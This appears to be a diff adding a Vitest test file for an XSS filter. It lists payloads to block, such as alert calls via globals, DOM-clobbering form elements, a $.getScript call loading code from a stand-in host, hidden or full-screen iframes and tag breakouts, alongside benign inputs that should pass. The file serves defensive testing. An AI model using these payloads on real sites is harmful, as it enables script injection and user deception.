@@ -1,0 +1,38 @@
+import { describe } from 'vitest';
+import { blocks, passes } from '../../testing/payloads.ts';
+
+describe('xss, contexts and clobbering', () => {
+  // globals by index, elements that hide the document
+  blocks('xss', [
+    "frames[0]['alert'](1)",
+    "new Function('ale','rt(1)')",
+    "$.getScript('//x.example/a.js')",
+    'Object.assign(window,{onerror:alert})',
+    'with(String)eval(fromCharCode(97))',
+    '<form name=getElementById>',
+    '<img name=currentScript>',
+    '<input name=attributes form=x>',
+  ]);
+
+  passes([
+    'How can I use the alert() function in JavaScript?',
+    'The <script> tag goes in the <head>',
+    'Fix XSS in <script> handling',
+    '<p>Video:</p><iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ" title="YouTube video player" frameborder="0" allowfullscreen></iframe>',
+    '<html><head><title>x</title><style>p {margin:0}</style></head><body>Hi</body></html>',
+    'body { background: url(/a.png) } @import url("https://fonts.example.com/css?family=Open+Sans");',
+    'for f in os.listdir("."):\n    print(f)',
+    '<form id="search"><input name="q"></form>',
+  ]);
+});
+
+describe('xss, frames', () => {
+  blocks('xss', [
+    '<iframe src=//x.example></iframe>',
+    '<iframe src="https://x.example/a" width=1 height=1></iframe>',
+    '<iframe src="https://x.example/a" width="100%" height="100%" style="position:fixed;top:0"></iframe>',
+    '<iframe src="javascript:alert(1)" width="560" height="315"></iframe>',
+    '</title><h1>x</h1>',
+    '"></textarea><b>',
+  ]);
+});
